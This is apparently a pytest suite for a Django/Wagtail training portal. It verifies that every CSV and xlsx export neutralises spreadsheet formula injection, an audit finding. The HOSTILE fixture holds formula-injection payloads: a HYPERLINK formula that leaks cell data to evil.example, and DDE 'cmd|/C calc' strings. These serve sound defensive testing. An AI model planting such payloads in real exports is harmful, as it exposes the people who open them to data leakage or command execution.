"""Issue 13, finding 7 (formula injection in exports): names like `=HYPERLINK(...)`, `+cmd|...`,
`@SUM(...)` came out unescaped in the admin's CSV export.

Every export goes through one function, portal.xlsx.safe_cell: our workbooks (build_workbook) and
every Wagtail `list_export`, CSV and xlsx (portal.admin_export). Here hostile names and titles are
planted in every exported model, and every export is requested:

- every Wagtail view with list_export, found by walking the URL patterns (our admin viewsets,
  Wagtail's reports and redirects), as CSV and xlsx: a new one fails
  `test_every_wagtail_export_is_in_the_sweep` until it has a planter in WAGTAIL_EXPORTS;
- every project export of portal.registry.spreadsheet_exports: a new one fails
  `test_every_project_export_is_in_the_sweep` until it has a driver in PROJECT_EXPORTS, and a
  function that sends a spreadsheet without being registered fails
  `test_every_function_that_sends_a_spreadsheet_is_registered`.

No cell may start with = + - @ TAB CR (also after spaces, also full-width) unless neutralised by a
leading apostrophe; the planted text must be there (a sweep over an empty file proves nothing).
"""

from __future__ import annotations

import ast
import base64
import csv
import io
import re
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from portal import registry, xlsx
from tests.factories import EnterpriseFactory, PersonFactory, make_manager
from tests.project import project_sources

pytestmark = [pytest.mark.security, pytest.mark.django_db]

MARK = "EVIL"
HOSTILE = {
    "equals": f'=HYPERLINK("http://evil.example/?d="&A2,"{MARK} 点我")',
    "plus": f"+cmd|' /C calc'!A0 {MARK}",
    "minus": f"-2+3+cmd|' /C calc'!A0 {MARK}",
    "at": f"@SUM(1+9)*cmd|' /C calc'!A0 {MARK}",
    "tab": f"\t=1+1 {MARK}",
    "cr": f"\r=1+1 {MARK}",
    "spaces": f"  =1+1 {MARK}",
    "full-width": f"＝1+1 {MARK}",
}

# Written apart from portal.xlsx so that a mistake there is not repeated here.
_TRIGGERS = set("=+-@\t\r＝＋－＠")
_NUMBER = re.compile(r"\s*[+-]?\d+(\.\d+)?%?\s*")


def live_formula(value) -> bool:
    """A cell a spreadsheet program might run: text (not a number) starting with a trigger."""
    if not isinstance(value, str) or not value or _NUMBER.fullmatch(value):
        return False
    return value[0] in _TRIGGERS or value.lstrip()[:1] in _TRIGGERS


def _content(response) -> bytes:
    assert response.status_code == 200, response.status_code
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def csv_cells(content: bytes) -> list:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))  # not data_only: a formula comes back as "=..."
    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_neutralised(cells: list, *, planted: bool = True) -> None:
    live = [c for c in cells if live_formula(c)]
    assert live == []
    if planted:
        assert any(MARK in str(c) for c in cells), "the planted text is not in the export"


# ---- the world: an enterprise, a person, a page... each named by an attacker


@pytest.fixture
def world(client, district, street, superuser):
    from portal.roles import sync_role_groups

    sync_role_groups()
    enterprise = EnterpriseFactory(name=HOSTILE["plus"], street=street)
    person = PersonFactory(enterprise=enterprise, name=HOSTILE["equals"])
    client.force_login(superuser)
    return {
        "client": client,
        "district": district,
        "street": street,
        "enterprise": enterprise,
        "person": person,
        "superuser": superuser,
    }


# ---- Wagtail list_export views: url name -> planter(world)


def _certificate(world):
    from tests.certificates.factories import CertificateTemplateFactory, issue_manual_certificate

    certificate = issue_manual_certificate(
        world["person"],
        template=CertificateTemplateFactory(name="默认培训证书"),
        title=HOSTILE["at"],
        details={"subject": HOSTILE["minus"], "score": None},
    )
    certificate.status_reason = HOSTILE["tab"]
    certificate.save()


def _page(world):
    """A published page with a hostile title, locked, in a workflow: it appears in the locked
    pages, aging pages, site history and both workflow reports."""
    from wagtail.models import Page, Workflow

    from cms.models import ContentPage

    if "page" in world:
        return world["page"]
    home = Page.objects.get(depth=2)
    page = ContentPage(title=HOSTILE["equals"], slug="evil")
    home.add_child(instance=page)
    page.save_revision(user=world["superuser"], log_action=True).publish(user=world["superuser"])
    page.refresh_from_db()
    page.save_revision(user=world["superuser"])
    Workflow.objects.filter(active=True).first().start(page, world["superuser"])
    type(page).objects.filter(pk=page.pk).update(
        locked=True, locked_by=world["superuser"], locked_at=timezone.now()
    )
    world["page"] = page
    return page


def _redirect(world):
    from wagtail.contrib.redirects.models import Redirect

    Redirect.objects.create(old_path="/evil", redirect_link=HOSTILE["spaces"])


WAGTAIL_EXPORTS = {
    "certificates_certificates:index": _certificate,
    "wagtailadmin_reports:locked_pages": _page,
    "wagtailadmin_reports:aging_pages": _page,
    "wagtailadmin_reports:site_history": _page,
    "wagtailadmin_reports:workflow": _page,
    "wagtailadmin_reports:workflow_tasks": _page,
    "wagtailredirects:index": _redirect,
}


def _patterns(resolver=None, namespace=""):
    for entry in (resolver or get_resolver()).url_patterns:
        if isinstance(entry, URLResolver):
            ns = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            yield from _patterns(entry, ns)
        elif isinstance(entry, URLPattern) and entry.name:
            yield f"{namespace}{entry.name}", entry


def wagtail_exports() -> set[str]:
    """URL names of every view that offers list_export (its "…_results" twin is the same view)."""
    found = set()
    for name, pattern in _patterns():
        view_class = getattr(pattern.callback, "view_class", None)
        if not (view_class and issubclass(view_class, SpreadsheetExportMixin)):
            continue
        initkwargs = getattr(pattern.callback, "view_initkwargs", {})
        if (initkwargs.get("list_export") or view_class.list_export) and not name.endswith(
            "_results"
        ):
            found.add(name)
    return found


def test_every_wagtail_export_is_in_the_sweep():
    missing = sorted(wagtail_exports() - set(WAGTAIL_EXPORTS))
    assert not missing, f"add a planter to WAGTAIL_EXPORTS in {__file__} for: {missing}"
    stale = sorted(set(WAGTAIL_EXPORTS) - wagtail_exports())
    assert not stale, f"no longer exports, remove from WAGTAIL_EXPORTS: {stale}"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("url_name", sorted(WAGTAIL_EXPORTS))
def test_finding_7_no_wagtail_export_carries_a_live_formula(world, url_name, fmt):
    WAGTAIL_EXPORTS[url_name](world)

    response = world["client"].get(reverse(url_name), {"export": fmt})

    content = _content(response)
    assert_neutralised(csv_cells(content) if fmt == "csv" else xlsx_cells(content))


def test_finding_7_the_certificate_csv_export_neutralises_a_hyperlink_name(world):
    """The finding as reported: the person's name in the admin's certificate CSV."""
    _certificate(world)

    response = world["client"].get(reverse("certificates_certificates:index"), {"export": "csv"})

    rows = list(csv.reader(io.StringIO(_content(response).decode("utf-8-sig"))))
    assert rows[1][1] == "'" + HOSTILE["equals"]
    assert rows[1][4] == "'" + HOSTILE["at"]


# ---- project exports: key of portal.registry.spreadsheet_exports -> driver(world) returning the
# exported cells and whether user data is in them (the import templates hold none)


def _get(world, url, **query):
    return xlsx_cells(_content(world["client"].get(url, query)))


def _roster(world):
    return _get(world, reverse("portal_admin:roster-export")), True


def _roster_template(world):
    return _get(world, reverse("portal_admin:roster-template")), False


def _logins(world):
    response = world["client"].post(
        reverse("portal_admin:reset-password", args=[world["person"].pk])
    )
    match = re.search(r"base64,([A-Za-z0-9+/=]+)", _content(response).decode())
    return xlsx_cells(base64.b64decode(match.group(1))), True


def _first_passwords(world):
    """The sheet a big roster import left for its starter (portal.accounts.keep_sheet)."""
    from portal import accounts, progress

    record = progress.start(owner=world["superuser"], kind="import", title="导入名册")
    credential = accounts.InitialCredential(
        name=HOSTILE["equals"], enterprise=HOSTILE["plus"], login=HOSTILE["at"], password="a-b-c"
    )
    accounts.keep_sheet(str(record.pk), [credential])
    return _get(world, reverse("portal:first-passwords", args=[record.pk])), True


def _competition(world):
    from competitions.models import CompetitionStatus
    from tests.competitions.factories import (
        add_items,
        add_judges,
        add_team,
        make_competition,
        score,
    )

    competition = make_competition(
        world["district"],
        name=HOSTILE["minus"],
        year=timezone.localdate().year,
        status=CompetitionStatus.CLOSED,
        advancing_count=1,
        theory_weight=Decimal(0),
        practical_weight=Decimal(100),
    )
    (item,) = add_items(competition, 10)
    (judge,) = add_judges(competition, 1)
    team = add_team(competition, world["enterprise"], HOSTILE["at"], [world["person"]])
    score(team, item, judge, 9)
    return competition


def _competition_results(world):
    competition = _competition(world)
    url = reverse("competitions_admin:results", args=[competition.pk])
    return _get(world, url, export="xlsx"), True


def _dashboard_report(world):
    _competition(world)
    year = timezone.localdate().year
    return _get(world, reverse("dashboard:report"), format="xlsx", year=year), True


def _paper(world):
    from exams import engine
    from exams.models import QuestionBank
    from tests.exams.factories import make_paper, make_questions

    bank = QuestionBank.objects.create(name=HOSTILE["cr"], region=world["district"])
    paper = make_paper(owner_region=world["district"], questions=make_questions(bank, 2))
    now = timezone.now()
    attempt, _created = engine.start_or_resume(paper=paper, person=world["person"], now=now)
    engine.submit_attempt(attempt=attempt, now=now)
    return bank, paper


def _exam_results(world):
    _bank, paper = _paper(world)
    url = reverse("exams_admin:results", args=[paper.pk])
    return _get(world, url, export="xlsx"), True


def _bank_export(world):
    from exams.models import Question

    bank, _paper_ = _paper(world)
    Question.objects.create(
        bank=bank,
        type="single",
        stem=HOSTILE["at"],
        options=[HOSTILE["equals"], HOSTILE["tab"], "丙", "丁"],
        answer="A",
        explanation=HOSTILE["spaces"],
        difficulty=1,
    )
    return _get(world, reverse("exams_admin:bank-export", args=[bank.pk])), True


def _question_template(world):
    return _get(world, reverse("exams_admin:import-template")), False


def _records_template(world):
    return _get(world, reverse("courses:import-template")), False


def _compliance(world):
    year = timezone.localdate().year
    return _get(world, reverse("courses:compliance"), format="xlsx", year=year), True


def _study_log(world):
    """A study session of the hostile-named worker, in a course and lesson with hostile titles."""
    from wagtail.models import Page

    from courses import learning
    from courses.models import CourseIndexPage, StudySession
    from tests.courses.factories import make_course

    home = Page.objects.get(depth=2)
    index = home.add_child(instance=CourseIndexPage(title="在线课程", slug="courses-x"))
    course = make_course(index, slug="hostile", title=HOSTILE["minus"])
    lesson = course.lessons().first()
    enrolment = learning.enrol(person=world["person"], course=course)
    now = timezone.now()
    StudySession.objects.create(
        person=world["person"],
        enrolment=enrolment,
        lesson=lesson,
        tab="t1",
        device=HOSTILE["at"],
        started_at=now - timedelta(minutes=5),
        last_beat_at=now,
    )
    today = timezone.localdate()
    return _get(
        world,
        reverse("courses:study-log"),
        format="xlsx",
        start=(today - timedelta(days=1)).isoformat(),
        end=today.isoformat(),
    ), True


def _quiz(world):
    from wagtail.models import Page

    from cms.models import CampaignIndexPage, CampaignPage
    from exams.models import Attempt, QuestionBank
    from tests.cms.factories import publish
    from tests.exams.factories import make_paper, make_questions

    bank = QuestionBank.objects.create(name="竞赛题库", region=world["district"])
    paper = make_paper(owner_region=world["district"], questions=make_questions(bank, 2))
    Attempt.objects.create(
        paper=paper,
        person=world["person"],
        number=1,
        state=Attempt.State.FINISHED,
        finished_at=timezone.now(),
        score=Decimal(80),
        total=Decimal(100),
        passed=True,
    )
    index = CampaignIndexPage(title="专题活动", slug="campaigns")
    Page.objects.get(depth=2).add_child(instance=index)
    publish(index)
    today = timezone.localdate()
    campaign = CampaignPage(
        title="安全生产月",
        theme=CampaignPage.Theme.OTHER,
        start_date=today - timedelta(days=3),
        end_date=today + timedelta(days=10),
        quiz_paper=paper,
    )
    index.add_child(instance=campaign)
    campaign = publish(campaign)
    return _get(world, campaign.quiz_export_url), True


def _returns_tracker(world):
    from returns.models import Filing
    from tests.returns.factories import make_form

    form = make_form(world["district"], name=HOSTILE["minus"])
    Filing.objects.create(
        form=form, enterprise=world["enterprise"], status="returned", reason=HOSTILE["at"]
    )
    url = reverse("returns_admin:tracker", args=[form.pk])
    return _get(world, url, export="xlsx"), True


def _operator_certificates(world):
    from datetime import date

    from operators.models import Position
    from tests.operators.factories import certificate, equipment_kind

    world["person"].position = HOSTILE["at"]
    world["person"].save()
    certificate(
        world["person"], equipment_kind("N1"), issued=date(2024, 5, 10), authority=HOSTILE["tab"]
    )
    Position.objects.create(enterprise=world["enterprise"], name=HOSTILE["at"]).required_kinds.set(
        [equipment_kind("Q2")]
    )
    return world, True


def _operators_export(world):
    _operator_certificates(world)
    return _get(world, reverse("operators_admin:export")), True


def _operators_unlicensed(world):
    _operator_certificates(world)
    return _get(world, reverse("operators_admin:unlicensed"), format="xlsx"), True


def _operators_template(world):
    return _get(world, reverse("operators_admin:template")), False


def _induction_incomplete(world):
    from django.utils import timezone

    world["person"].position = HOSTILE["at"]
    world["person"].hired_on = timezone.localdate() - timedelta(days=10)  # no 三级教育 yet
    world["person"].save()
    return _get(world, reverse("induction_admin:index"), format="xlsx"), True


PROJECT_EXPORTS = {
    "returns.tracker": _returns_tracker,
    "portal.roster": _roster,
    "portal.roster-template": _roster_template,
    "portal.logins": _logins,
    "portal.first-passwords": _first_passwords,
    "dashboard.report": _dashboard_report,
    "cms.quiz": _quiz,
    "courses.compliance": _compliance,
    "courses.import-template": _records_template,
    "courses.study-log": _study_log,
    "exams.bank": _bank_export,
    "exams.results": _exam_results,
    "exams.import-template": _question_template,
    "competitions.results": _competition_results,
    "operators.certificates": _operators_export,
    "operators.unlicensed": _operators_unlicensed,
    "operators.template": _operators_template,
    "induction.incomplete": _induction_incomplete,
}


def test_every_project_export_is_in_the_sweep():
    missing = sorted(set(registry.spreadsheet_exports) - set(PROJECT_EXPORTS))
    assert not missing, f"add a driver to PROJECT_EXPORTS in {__file__} for: {missing}"
    stale = sorted(set(PROJECT_EXPORTS) - set(registry.spreadsheet_exports))
    assert not stale, f"no longer registered, remove from PROJECT_EXPORTS: {stale}"


@pytest.mark.parametrize("key", sorted(PROJECT_EXPORTS))
def test_finding_7_no_project_export_carries_a_live_formula(world, key):
    cells, planted = PROJECT_EXPORTS[key](world)

    assert_neutralised(cells, planted=planted)


# ---- completeness: what sends a spreadsheet is registered; only portal.xlsx writes one


def _module(path: Path) -> str:
    root = Path(__file__).resolve().parents[2]
    return ".".join(path.relative_to(root).with_suffix("").parts)


def _sends_a_spreadsheet(node: ast.AST) -> bool:
    for child in ast.walk(node):
        if isinstance(child, ast.Name) and child.id in {"xlsx_response", "XLSX_CONTENT_TYPE"}:
            return True
        if isinstance(child, ast.Attribute) and child.attr in {
            "xlsx_response",
            "XLSX_CONTENT_TYPE",
        }:
            return True
        if isinstance(child, ast.Constant) and child.value in {"text/csv", "text/tab-separated"}:
            return True
    return False


def spreadsheet_senders() -> set[str]:
    """module.function of every function that answers with a spreadsheet (outside portal.xlsx)."""
    found = set()
    for path in project_sources():
        module = _module(path)
        if module == "portal.xlsx":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef) and any(
                _sends_a_spreadsheet(statement) for statement in node.body
            ):
                found.add(f"{module}.{node.name}")
    return found


def test_every_function_that_sends_a_spreadsheet_is_registered():
    registered = {export.view for export in registry.spreadsheet_exports.values()}

    assert spreadsheet_senders() - registered == set()


def test_the_sender_scan_finds_the_registered_views():
    """The scan above must see what it is meant to see, or it would pass on anything."""
    registered = {export.view for export in registry.spreadsheet_exports.values()}

    assert registered <= spreadsheet_senders()


def test_only_portal_xlsx_writes_a_spreadsheet():
    root = Path(__file__).resolve().parents[2]
    writers = [
        str(path.relative_to(root))
        for path in project_sources()
        if re.search(
            r"^\s*(from|import) openpyxl|csv\.(writer|DictWriter)\b",
            path.read_text(encoding="utf-8"),
            re.MULTILINE,
        )
    ]
    assert writers == ["portal/xlsx.py"]


# ---- the cell-neutralising function itself


@pytest.mark.parametrize("name", list(HOSTILE))
def test_safe_cell_neutralises_each_formula_start(name):
    assert xlsx.safe_cell(HOSTILE[name]) == "'" + HOSTILE[name]


@pytest.mark.parametrize(
    "value", [-5, 3.5, Decimal("-1.25"), 0, True, None, "", "王小明", "'=已中和", "a=b", "—"]
)
def test_safe_cell_leaves_numbers_and_plain_text_alone(value):
    assert xlsx.safe_cell(value) == value


def test_real_numbers_stay_numbers_and_numeric_text_is_text_in_a_workbook():
    content = xlsx.build_workbook(
        ["数值", "文本"], [[-5, "-5"], [Decimal("-1.5"), HOSTILE["equals"]]]
    )

    sheet = load_workbook(io.BytesIO(content)).active

    assert [c.value for c in sheet[2]] == [-5, "'-5"]
    assert [c.value for c in sheet[3]] == [-1.5, "'" + HOSTILE["equals"]]
    assert sheet["B3"].data_type == "s"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_wagtail_export_keeps_a_negative_number_a_number(fmt):
    view = SpreadsheetExportMixin()

    assert view.preprocess_field_value("score", -5, fmt) == -5
    assert view.preprocess_field_value("name", HOSTILE["plus"], fmt) == "'" + HOSTILE["plus"]


def test_an_exported_question_bank_imports_back_unchanged(district):
    """The apostrophe an export adds is taken off on import: a bank round-trips."""
    from exams import importing
    from exams.models import Question, QuestionBank

    source = QuestionBank.objects.create(name="源题库", region=district)
    Question.objects.create(
        bank=source,
        type="single",
        stem="-5 的绝对值是多少？",
        options=["=5", "-5", "+5", "0"],
        answer="A",
        difficulty=1,
    )
    target = QuestionBank.objects.create(name="目标题库", region=district)
    upload = io.BytesIO(importing.export_workbook(source.questions.all()))
    upload.name = "题库.xlsx"

    report = importing.import_questions(bank=target, upload=upload)

    assert report.ok, report.errors
    copied = target.questions.get()
    assert copied.stem == "-5 的绝对值是多少？"
    assert copied.options == ["=5", "-5", "+5", "0"]


def test_a_manager_export_of_their_roster_is_neutralised_too(client, enterprise):
    """Not only superusers: the roster export of an enterprise's own manager."""
    PersonFactory(enterprise=enterprise, name=HOSTILE["at"])
    client.force_login(make_manager(enterprise))

    cells = xlsx_cells(_content(client.get(reverse("portal_admin:roster-export"))))

    assert "'" + HOSTILE["at"] in cells
    assert_neutralised(cells)
